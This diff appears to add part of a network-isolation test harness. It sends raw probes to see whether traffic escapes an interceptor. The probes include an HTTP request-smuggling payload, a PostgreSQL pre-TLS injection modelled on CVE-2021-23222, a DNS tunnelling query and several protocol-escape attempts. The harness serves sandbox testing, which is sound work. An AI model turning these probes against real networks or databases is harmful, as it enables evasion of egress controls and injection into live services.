+@attempt("upgrade", 80, b"GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
+@attempt("smtp-starttls", 25, b"EHLO x\r\nSTARTTLS\r\n")
+@attempt("ssh", 22, b"SSH-2.0-escape\r\n")
+@attempt("dns-over-tls", 853, client_hello(server_name(b"dns.example")))
+@attempt("unknown-protocol", 9999, b"\x00\x01\x02 interceptor-escape \xff")
+@attempt("smuggling", 80, b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET")
+def speak(_, port, text):
+    s = tcp(socket.AF_INET)
+    s.connect((V4, port))
+    s.send(text)
+    return heard(s)
+
+
+@attempt("injected-before-tls")
+def injected(_):
+    """A start-up message in clear, in one segment with the request for TLS (as CVE-2021-23222 had it)."""
+    s = tcp(socket.AF_INET)
+    s.connect(("db.internal", 5432))
+    body = struct.pack(">I", 196608) + b"user\0app\0database\0orders\0\0"
+    s.send(struct.pack(">II", 8, 80877103) + struct.pack(">I", 4 + len(body)) + body)
+    answer, begun = b"", time.time()
+    while time.time() - begun < 2:
+        try:
+            part = s.recv(1000)
+        except OSError:
+            break
+        if not part:
+            break
+        answer += part
+    if b"R\0\0\0" in answer:
+        return repr(answer)
+    raise Refused("recv", errno.ECONNRESET, repr(answer))
+
+
+@attempt("tunnel-by-name", b"\x10\0\x01", socket.SOCK_DGRAM)
+@attempt("tunnel-by-name-tcp", b"\x10\0\x01", socket.SOCK_STREAM)
+def tunnel(_, question, kind):
+    name = b"\x3f" + b"a" * 63 + b"\x06tunnel\x07example\0"
+    query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + b"\0" + question
+    s = udp() if kind == socket.SOCK_DGRAM else tcp(socket.AF_INET)
+    s.connect((V4, 53))
+    s.send(query if kind == socket.SOCK_DGRAM else struct.pack(">H", len(query)) + query)
+    return heard(s)
+
+
+def call_of(error):
+    """The call that raised it: named by itself, or by the line of this file where it was raised."""
+    if isinstance(error, Refused):
+        return error.call
+    trace, line = error.__traceback__, ""
+    while trace:
+        if trace.tb_frame.f_code.co_filename == __file__:
+            line = linecache.getline(__file__, trace.tb_lineno)
+        trace = trace.tb_next
+    found = re.findall(rf"\b({CALLS})\(", line)
+    return found[-1] if found else line.strip()
+
+
+def tried(given):
+    try:
+        said = ATTEMPTS[given["name"]](given)
+        return {"done": True, "said": str(said)}
+    except OSError as error:
+        name = errno.errorcode.get(error.errno, type(error).__name__)
+        return {"done": False, "call": call_of(error), "errno": name, "said": str(error.strerror or error)}
+    except Exception as error:  # A broken attempt must not look like a closed way.
+        return {"done": False, "call": "attempt", "errno": "BROKEN", "said": repr(error)}
+
+
+def isolated(given):
+    out, into = os.pipe()
+    child = os.fork()
+    if child == 0:
+        signal.alarm(PATIENCE)
+        os.write(into, json.dumps(tried(given)).encode())
+        os._exit(0)
+    os.close(into)
+    text = b""
+    while select.select([out], [], [], PATIENCE + 2)[0]:
+        part = os.read(out, 65536)
+        if not part:
+            break
+        text += part
+    os.close(out)
+    os.kill(child, signal.SIGKILL)
+    os.waitpid(child, 0)
+    # One that had to be killed neither got through nor was refused.
+    return json.loads(text) if text else {"done": False, "call": "attempt", "errno": "TIMEOUT", "said": "killed"}
+
+
+if sys.argv[1:2] == ["once"]:
+    print(json.dumps(tried(json.loads(sys.argv[2]))), flush=True)
+else:
+    print("ready", flush=True)
+    for line in sys.stdin:
+        print(json.dumps(isolated(json.loads(line))), flush=True)
